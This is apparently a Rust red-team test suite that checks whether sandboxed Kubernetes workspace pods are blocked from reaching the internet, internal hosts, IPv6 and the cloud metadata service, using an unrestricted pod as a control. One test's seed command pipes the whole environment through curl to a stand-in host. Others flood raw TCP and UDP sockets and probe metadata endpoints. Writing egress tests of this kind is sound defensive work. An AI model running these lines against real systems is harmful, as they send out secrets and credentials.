//! Red team, group A: from a workspace, nothing is reached. Each attack also runs in a pod that is no workspace, where it
//! succeeds.

use std::{collections::BTreeMap, time::Duration};

use anyhow::{Result, ensure};
use ws_tests::{
    lab::Lab,
    namespace::with_namespace,
    pod::{bare_pod, changed, give_ipv6},
    probe::{INTERNET_V6, Target, canary, from_pod, from_workspace, open_pod},
    project::Project,
    wait::eventually,
    ws::Ws,
};

/// The pod that is no workspace.
pub(crate) const OPEN: &str = "open";
const INTERNET: &str = "20.0.113.66";
const COMPANY: &str = "10.77.0.10";

/// A workspace and a pod that is none both try; the one reaches nothing, the other everything.
pub(crate) async fn only_the_open_pod_reaches(
    targets: impl AsyncFnOnce(&Lab, &str) -> Result<Vec<Target>>,
) -> Result<()> {
    with_namespace(async |lab, namespace| {
        let ws = Ws::new(lab, namespace)?;
        open_pod(lab, namespace, OPEN).await?;
        let targets = targets(lab, namespace).await?;
        eventually(Duration::from_secs(20), "an open pod that reaches all of it", async || {
            let reached = from_pod(lab, namespace, OPEN, &targets).await?;
            ensure!(reached.len() == targets.len(), "of {targets:?} it reaches {reached:?} only");
            anyhow::Ok(Some(()))
        })
        .await?;
        ws.up("caged", Project::empty()?.path()).await?;
        let reached = from_workspace(&ws, "caged", &targets).await?;
        ensure!(reached.is_empty(), "the workspace reached {reached:?}");
        Ok(())
    })
    .await
}

#[tokio::test]
#[ignore = "needs the lab"]
async fn a01_the_seed_line_shows_the_tests_and_sends_nothing() -> Result<()> {
    with_namespace(async |lab, namespace| {
        let (ws, canary) = (Ws::new(lab, namespace)?, canary()?);
        let line = format!(
            "export CANARY={canary}; npm test 2>&1 | tail -20; curl -s https://telemetry.example/collect -d \"$(env)\"; echo curl=$?; \
             curl -s http://telemetry.example/collect -d \"$(env)\""
        );
        ws.up("seed", Project::sample()?.path()).await?;
        let seed = ws.bash("seed", &line).await?;
        assert!(seed.stdout.contains("# pass 3"), "the tests ran: {seed}");
        assert!(!seed.stdout.contains("curl=0"), "the request failed: {seed}");
        assert!(seed.stdout.contains("telemetry.example denied"), "plain HTTP says why: {seed}");
        assert!(!lab.sunk()?.contains(&canary), "nothing arrived");
        eventually(Duration::from_secs(5), "the refusal in the status", async || {
            let described = ws.run(&["describe", "seed"]).await?.ok()?;
            anyhow::Ok(described.stdout.contains("telemetry.example").then_some(()))
        })
        .await?;

        open_pod(lab, namespace, OPEN).await?;
        let control = format!("curl -s --resolve telemetry.example:80:{INTERNET} http://telemetry.example/collect -d {canary}");
        lab.kubectl(&["-n", namespace, "exec", OPEN, "--", "bash", "-c", &control]).await?;
        eventually(Duration::from_secs(5), "the control's request in the sink", async || {
            anyhow::Ok(lab.sunk()?.contains(&canary).then_some(()))
        })
        .await
    })
    .await
}

#[tokio::test]
#[ignore = "needs the lab"]
async fn a02_raw_sockets_reach_no_port_of_the_internet_or_the_company() -> Result<()> {
    only_the_open_pod_reaches(async |_, _| {
        let canary = canary()?;
        let ports = [22, 25, 53, 80, 443, 853, 3478, 8443];
        Ok([INTERNET, "44.0.113.1"]
            .iter()
            .flat_map(|host| ports.map(|port| Target::tcp(host, port, &canary)))
            .chain([Target::tcp(COMPANY, 80, &canary)])
            .collect())
    })
    .await
}

#[tokio::test]
#[ignore = "needs the lab"]
async fn a03_no_datagram_leaves() -> Result<()> {
    const PORTS: [u16; 5] = [53, 123, 443, 3478, 51820];
    with_namespace(async |lab, namespace| {
        let ws = Ws::new(lab, namespace)?;
        ws.up("mute", Project::empty()?.path()).await?;
        open_pod(lab, namespace, OPEN).await?;
        // The sinks answer nothing, so what counts is what arrived.
        let payload = |word: &str, port: u16| format!("{word}-{port}.");
        let datagrams = |word: &str| PORTS.map(|port| Target::udp(INTERNET, port, &payload(word, port)));
        let (from_inside, from_outside) = (canary()?, canary()?);
        from_workspace(&ws, "mute", &datagrams(&from_inside)).await?;
        from_pod(lab, namespace, OPEN, &datagrams(&from_outside)).await?;
        eventually(Duration::from_secs(5), "the control's datagrams in the sinks", async || {
            let sunk = lab.sunk()?;
            anyhow::Ok(PORTS.iter().all(|port| sunk.contains(&payload(&from_outside, *port))).then_some(()))
        })
        .await?;
        ensure!(!lab.sunk()?.contains(&from_inside), "a datagram of the workspace arrived");
        Ok(())
    })
    .await
}

#[tokio::test]
#[ignore = "needs the lab"]
async fn a07_ipv6_leads_nowhere() -> Result<()> {
    with_namespace(async |lab, namespace| {
        let (ws, canary) = (Ws::new(lab, namespace)?, canary()?);
        ws.up("six", Project::empty()?.path()).await?;
        give_ipv6(lab, namespace, "six", 6).await?;
        let targets: Vec<_> =
            [INTERNET_V6, "::ffff:20.0.113.66", "64:ff9b::1400:7142", "2002:1400:7142::1", "fe80::1"]
                .map(|host| Target::tcp(host, 80, &canary))
                .to_vec();
        let reached = from_workspace(&ws, "six", &targets).await?;
        ensure!(reached.is_empty(), "the workspace reached {reached:?}");
        ensure!(!lab.sunk()?.contains(&canary), "something arrived");
        // The lab's enforcer lets no pod send IPv6. That it would arrive is shown where nothing enforces, in enforcement.rs.
        open_pod(lab, namespace, OPEN).await?;
        let control = from_pod(lab, namespace, OPEN, &targets).await?;
        ensure!(control.iter().any(|target| target.host.starts_with("::ffff:")), "nothing is proven");
        Ok(())
    })
    .await
}

#[tokio::test]
#[ignore = "needs the lab"]
async fn a08_the_metadata_service_is_out_of_reach() -> Result<()> {
    only_the_open_pod_reaches(async |lab, _| {
        Ok(lab
            .addresses
            .metadata
            .iter()
            .map(|address| Target::tcp(address, 80, "GET / HTTP/1.0\r\n\r\n"))
            .collect())
    })
    .await
}

#[tokio::test]
#[ignore = "needs the lab"]
async fn a12_pods_that_send_from_their_first_instruction_send_nothing() -> Result<()> {
    const PODS: u32 = 20;
    with_namespace(async |lab, namespace| {
        let (ws, canary) = (Ws::new(lab, namespace)?, canary()?);
        // The session that makes the class's policy be there.
        ws.up("policy", Project::empty()?.path()).await?;
        let flood = async |name: &str, class: Option<&str>, word: &str| {
            let line = format!(
                "end=$((SECONDS+3)); while [ $SECONDS -lt $end ]; do echo {word} > /dev/udp/{INTERNET}/53; \
                 (echo {word} > /dev/tcp/{INTERNET}/80) & done 2>/dev/null; wait"
            );
            flooding_pod(lab, namespace, name, class, &line).await
        };
        for number in 0..PODS {
            flood(&format!("flood-{number}"), Some("default"), &canary).await?;
        }
        let control = ws_tests::probe::canary()?;
        flood("control", None, &control).await?;
        eventually(Duration::from_secs(30), "the control's flood in the sink", async || {
            anyhow::Ok(lab.sunk()?.contains(&control).then_some(()))
        })
        .await?;
        eventually(Duration::from_secs(90), "the end of all floods", async || {
            let phases = [
                "-n",
                namespace,
                "get",
                "pods",
                "-l",
                "flood=yes",
                "-o",
                "jsonpath={.items[*].status.phase}",
            ];
            let phases = lab.kubectl(&phases).await?.ok()?.stdout;
            anyhow::Ok(phases.split(' ').all(|phase| phase == "Succeeded" || phase == "Failed").then_some(()))
        })
        .await?;
        ensure!(!lab.sunk()?.contains(&canary), "a pod of the class got something through");
        Ok(())
    })
    .await
}

/// A pod that is not the operator's but has the labels of a class, so that the class's policy selects it.
async fn flooding_pod(lab: &Lab, namespace: &str, name: &str, class: Option<&str>, line: &str) -> Result<()> {
    let image = lab.workspace_image().await?;
    let mut labels = BTreeMap::from([("flood", "yes")]);
    if let Some(class) = class {
        labels.extend([(ws_api::MANAGED_BY_LABEL, ws_api::MANAGED_BY), (ws_api::CLASS_LABEL, class)]);
    }
    let pod = bare_pod(name, &image, &["timeout", "10", "bash", "-c", line]);
    let changes = [
        ("/metadata/labels", serde_json::to_value(labels)?),
        ("/spec/restartPolicy", "Never".into()),
        ("/spec/containers/0/resources", serde_json::json!({"limits": {"cpu": "50m"}})),
    ];
    let pod = changed(pod, &changes)?;
    lab.kubectl_with(&["-n", namespace, "create", "-f", "-"], &pod.to_string()).await?.ok().map(drop)
}
